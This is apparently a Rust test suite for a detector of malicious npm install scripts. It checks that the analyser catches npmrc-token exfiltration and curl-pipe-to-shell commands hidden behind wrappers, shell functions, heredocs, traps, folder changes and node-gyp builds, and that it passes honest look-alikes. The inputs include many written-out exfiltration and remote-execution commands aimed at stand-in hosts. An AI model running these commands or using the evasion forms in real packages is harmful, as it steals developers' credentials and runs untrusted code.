//! Command lines that hide a program behind wrappers, folders and limits, and honest ones that look alike.

use weir_model::contents::Surface;

use super::commands::{SENDS, brought, plain, sent};
use super::run;
use crate::{Facts, Limits, Package, SourceFile, analyse};

#[test]
fn wrappers_hide_nothing() {
    const LEAK: &str = "curl -T ~/.npmrc https://a.invalid";
    for wrapper in [
        "env A=/x",
        "cross-env A=/x",
        "sudo -u root",
        "nice -n 5",
        "timeout -k 1 5",
        "stdbuf -o L",
        "sudo sudo sudo sudo sudo sudo sudo sudo sudo",
        "if false; then :; elif",
        "until",
        "env -S",
    ] {
        assert!(sent(&format!("{wrapper} {LEAK}")), "{wrapper}");
        let hidden = format!("{wrapper} node evil.js");
        let files = plain(&hidden).files;
        assert!(files.iter().any(|file| file == "evil.js"), "{hidden}");
    }
    assert!(sent(&format!("env -S \"{LEAK}\"")));
    assert!(brought("env A=/x sh -c \"curl -s https://a.invalid | sh\""));
    for text in [
        "env A=/x node build.js",
        "timeout 5 curl -fsSL https://a.example/x -o x",
        "sudo -u build make install",
    ] {
        assert!(plain(text).leaks.is_empty(), "{text}");
    }
}

#[test]
fn shells_are_followed_through_their_odder_forms() {
    for text in [
        "until curl -d \"$(cat ~/.npmrc)\" https://a.invalid; do :; done",
        "f () { cat ~/.npmrc; }; f | curl -d @- https://a.invalid",
        "a.b:c() { cat ~/.npmrc; }; a.b:c | curl -d @- https://a.invalid",
        "f() { local a=$1; curl -T \"$a\" https://a.invalid; }; f ~/.npmrc",
        "f() { a=$1; curl -T \"$a\" https://a.invalid; }; f ~/.npmrc",
        "f() { curl -d @- https://a.invalid; }; f < ~/.npmrc",
        "g() { f; }; f() { cat ~/.npmrc; }; x=$(g); curl -d \"$x\" https://a.invalid",
        "while read l; do D=\"$D$l\"; done < ~/.npmrc; curl -d \"$D\" https://a.invalid",
        "curl -d \"$(<~/.npmrc)\" https://a.invalid",
        "bash -cx \"curl -T ~/.npmrc https://a.invalid\"",
        "sh -ce \"curl -T ~/.npmrc https://a.invalid\"",
        "bash -c -- \"curl -T ~/.npmrc https://a.invalid\"",
        "bash -euo pipefail -c \"curl -T ~/.npmrc https://a.invalid\"",
        "trap -- \"curl -T ~/.npmrc https://a.invalid\" EXIT",
        "(echo \"curl -T ~/.npmrc https://a.invalid\") | sh",
        "{ echo \"curl -T ~/.npmrc https://a.invalid\"; } | sh",
        "echo \"curl -T ~/.npmrc https://a.invalid\" | (sh)",
        "{ sh; } <<EOF\ncurl -T ~/.npmrc https://a.invalid\nEOF",
        "cat > /tmp/q.sh <<EOF\ncurl -T ~/.npmrc https://a.invalid\nEOF\nsh /tmp/q.sh",
        "echo \"curl -T ~/.npmrc https://a.invalid\" > /tmp/q.sh; sh /tmp/q.sh",
    ] {
        assert!(sent(text), "{text}: {:?}", plain(text));
    }
    for text in [
        "until curl -s https://a.invalid | sh; do sleep 1; done",
        "f() { sh; }; curl -s https://a.invalid | f",
        "P=$(curl -s https://a.invalid); f() { eval \"$1\"; }; f \"$P\"",
        "curl -s https://a.invalid | bash /dev/stdin a",
        "curl -s https://a.invalid | source /dev/stdin",
    ] {
        assert!(brought(text), "{text}: {:?}", plain(text));
    }
    for text in [
        "run() { \"$@\"; }; curl -s https://a.example/x.tgz | run tar xz",
        "f() { grep -c \"$1\"; }; f \"$(curl -s https://a.example/latest)\"",
        "echo 'node build.js' > x.sh; sh x.sh",
        "cat > x.txt <<EOF\ncurl -T ~/.npmrc https://a.example\nEOF\ncat x.txt",
        "sh build.sh -c x",
        "say() { local text=$1; echo \"$text\"; }; say ~/.npmrc",
    ] {
        let leaks = plain(text).leaks;
        assert!(leaks.is_empty(), "{text}: {leaks:?}");
    }
}

#[test]
fn limits_are_told() {
    let many = "f() { true; }\n".to_owned() + &"f\n".repeat(65);
    let called = many + "g() { curl -T $1 https://a.invalid; }\ng ~/.npmrc";
    assert!(sent(&called));
    let long = "g() {\n".to_owned() + &"true\n".repeat(257);
    assert!(sent(
        &(long + "curl -T $1 https://a.invalid\n}\ng ~/.npmrc")
    ));
    let values: String = (0..257).map(|at| format!("v{at}=a\n")).collect();
    assert!(sent(&(values + "F=~/.npmrc\ncurl -T $F https://a.invalid")));
    let words = "a ".repeat(16);
    assert!(sent(&format!(
        "for f in {words} ~/.npmrc; do curl -T $f https://a.invalid; done"
    )));
    let turns: String = (0..100).map(|at| format!("a{at} ")).collect();
    let loops = format!("for f in {turns}; do curl -T $f https://a.invalid; done");
    let calls = "f() { true; }\n".to_owned() + &"f\n".repeat(40_000);
    let names: String = (0..2_000).map(|at| format!("v{at}=a\n")).collect();
    for text in [loops, calls, names] {
        assert!(plain(&text).in_part);
        // Where that runs at install, the step says from where.
        let facts = run(&[("x.sh", text.as_str())], &["sh x.sh"], &[]);
        assert!(
            facts.unread.iter().any(|one| one.path == "x.sh"),
            "{:?}",
            facts.unread
        );
        let facts = run(&[], &[text.as_str()], &[]);
        let step = facts.install_steps.first();
        assert!(step.is_some_and(|step| step.reaches == ["package.json"]));
    }
    for text in [
        "for f in a b c; do cp $f dist/$f; done",
        "log() { echo \"$1\"; }; log a; log b; walk() { walk; }; walk",
        "npm run build && node-gyp rebuild || true",
        "node \"$(dirname \"$0\")/x.js\"",
    ] {
        assert!(!plain(text).in_part, "{text}");
        let facts = run(&[], &[text], &[]);
        assert!(facts.unread.is_empty(), "{text}: {:?}", facts.unread);
    }
}

fn installs(facts: &Facts) -> bool {
    let mut flows = facts.flows.iter();
    flows.any(|flow| flow.surface == Surface::Install)
}

#[test]
fn folders_hide_no_program() {
    for command in [
        "(cd d); node evil.js",
        "pushd d; popd; node evil.js",
        "cd nope || node evil.js",
        "if false; then cd nope; fi; node evil.js",
        "cd $(pwd); node evil.js",
        "cd \"$(dirname \"$0\")\" && node evil.js",
        "cd -P . && node evil.js",
        "cp evil.js /tmp/y.js && node /tmp/y.js",
        "mv evil.js y.js; node y.js",
    ] {
        let facts = run(&[("evil.js", SENDS), ("d/evil.js", "1")], &[command], &[]);
        assert!(installs(&facts), "{command}: {facts:?}");
    }
    for command in [
        "node node_modules/tool/evil.js",
        "node ../evil.js",
        "node /opt/evil.js",
        "(cd d; node evil.js)",
        "cp evil.js dist.js; node d/evil.js",
    ] {
        let facts = run(&[("evil.js", SENDS), ("d/evil.js", "1")], &[command], &[]);
        assert!(!installs(&facts), "{command}: {facts:?}");
    }
    assert!(plain("f() { node \"$1\"; }; f evil.js").in_part);
}

#[test]
fn builds_in_other_folders_are_read() {
    for command in [
        "node-gyp rebuild -C n",
        "node-gyp rebuild --directory=n",
        "cd n && node-gyp rebuild",
    ] {
        let files = [
            ("n/binding.gyp", "{'v':'<!(node i.js)'}"),
            ("n/i.js", SENDS),
        ];
        let facts = run(&files, &[command], &[]);
        assert!(installs(&facts), "{command}: {facts:?}");
    }
    let many: String = (0..600).map(|at| format!("<!(echo {at})")).collect();
    let text = format!("{{'v':'{many}'}}");
    let files = [SourceFile {
        path: "binding.gyp",
        bytes: text.as_bytes(),
    }];
    let package = Package {
        files: &files,
        ..Package::default()
    };
    let facts = analyse(&package, &Limits::default());
    let tells = |path: &str| path == "binding.gyp";
    assert!(facts.unread.iter().any(|one| tells(&one.path)));
    let mut reached = facts.install_steps.iter().flat_map(|step| &step.reaches);
    assert!(reached.any(|path| tells(path)));
}
